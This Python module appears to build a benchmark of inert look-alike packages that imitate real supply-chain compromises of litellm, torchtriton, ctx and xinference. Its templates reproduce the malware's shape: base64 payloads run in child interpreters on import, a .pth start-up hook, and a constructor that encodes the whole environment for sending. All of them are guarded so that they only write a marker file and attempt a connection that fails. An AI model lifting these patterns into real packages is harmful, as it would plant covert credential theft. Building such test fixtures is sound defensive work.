"""Inert stand-ins for real attacks: what scanners and policies see of them, and nothing of what they did.

Every one is interlocked. It acts only when `PRATIQUE_BENCH=1` is set and a token file lies in `PRATIQUE_BENCH_DIR`, a full
path. Its whole effect then is a marker file in that folder and one connection attempt that must fail, to a name below
`.invalid` or to the discard port of the own machine. Names contain `look`, so that none can be taken for a real project.
"""

import base64
from typing import Final

_GUARD: Final = """\
import os
import socket


def fire(name):
    folder = os.environ.get("PRATIQUE_BENCH_DIR", "")
    if os.environ.get("PRATIQUE_BENCH") != "1" or not os.path.isabs(folder):
        return
    if not os.path.isfile(os.path.join(folder, "token")):
        return
    if int(os.environ.get("PRATIQUE_BENCH_DEPTH", "0")) >= 3:
        return
    with open(os.path.join(folder, name + ".fired"), "w") as marker:
        marker.write("fired")
    try:
        socket.create_connection(("c2." + name + ".invalid", 443), timeout=1).close()
    except OSError:
        pass
"""


def _payload(name: str) -> str:
    """The guarded marker as an encoded text, the way the real one carried its payload."""
    return base64.b64encode(f"{_GUARD}\n\nfire({name!r})\n".encode()).decode()


def _child(name: str) -> str:
    """A module that hands an encoded payload to a child interpreter; without the bench it does nothing at all.

    The child is told how deep it is: the payload stops at the third.
    """
    return (
        "import base64\nimport os\nimport subprocess\nimport sys\n\n"
        f'DATA = "{_payload(name)}"\n'
        'FOLDER = os.environ.get("PRATIQUE_BENCH_DIR", "")\n'
        'DEPTH = os.environ.get("PRATIQUE_BENCH_DEPTH", "0")\n\n'
        'if os.environ.get("PRATIQUE_BENCH") == "1" and os.path.isabs(FOLDER) and int(DEPTH) < 3:\n'
        '    if os.path.isfile(os.path.join(FOLDER, "token")):\n'
        "        os.environ['PRATIQUE_BENCH_DEPTH'] = str(int(DEPTH) + 1)\n"
        '        subprocess.run([sys.executable, "-c", base64.b64decode(DATA).decode()], timeout=10, check=False)\n'
    )


def llmlook(version: str) -> dict[str, str]:
    """Litellm 1.82.6 (good), 1.82.7 (payload in a module), 1.82.8 (and a start-up hook)."""
    files = {
        "llmlook/__init__.py": f'VERSION = "{version}"\n',
        "llmlook/proxy_server.py": "def serve():\n    return 200\n",
    }
    if version in ("1.82.7", "1.82.8"):
        files["llmlook/proxy_server.py"] += "\n\n" + _child(f"litellm-{version}-import")
    if version == "1.82.8":
        files["llmlook/bench.py"] = _GUARD
        files["llmlook_init.pth"] = 'import llmlook.bench; llmlook.bench.fire("litellm-1.82.8-pth")\n'
    return files


def trilook(version: str) -> dict[str, str]:
    """torchtriton: the look-alike on the public index carried a binary beside the module."""
    files = {"trilook/__init__.py": f'VERSION = "{version}"\n'}
    if version == "3.0.0":
        files["trilook/runtime/triton"] = "\x7fELF stands here as text; there is no program behind it.\n" * 40
        files["trilook/__init__.py"] += "\n" + _GUARD + '\n\nfire("torchtriton-2022")\n'
    return files


def ctxlook(version: str) -> dict[str, str]:
    """ctx: after eight silent years, a constructor that sends the environment away; here to the own discard port."""
    if version == "0.1.2":
        return {"ctxlook.py": "class Ctx(dict):\n    pass\n"}
    return {
        "ctxlook.py": (
            "import base64\nimport json\nimport os\nimport socket\n\n\n"
            "class Ctx(dict):\n"
            "    def __init__(self):\n"
            '        folder = os.environ.get("PRATIQUE_BENCH_DIR", "")\n'
            '        if os.environ.get("PRATIQUE_BENCH") != "1" or not os.path.isabs(folder):\n'
            "            return\n"
            '        if not os.path.isfile(os.path.join(folder, "token")):\n'
            "            return\n"
            '        with open(os.path.join(folder, "ctx-phpass-2022.fired"), "w") as marker:\n'
            '            marker.write("fired")\n'
            "        text = base64.b64encode(json.dumps(dict(os.environ)).encode())\n"
            "        try:\n"
            '            socket.create_connection(("127.0.0.1", 9), timeout=1).send(text[:0])\n'
            "        except OSError:\n"
            "            pass\n"
        )
    }


def inferlook(version: str) -> dict[str, str]:
    """xinference: an import that starts a process."""
    files = {"inferlook/__init__.py": f'VERSION = "{version}"\n'}
    if version == "2.6.2":
        files["inferlook/__init__.py"] += "\n" + _child("xinference-2026")
    return files
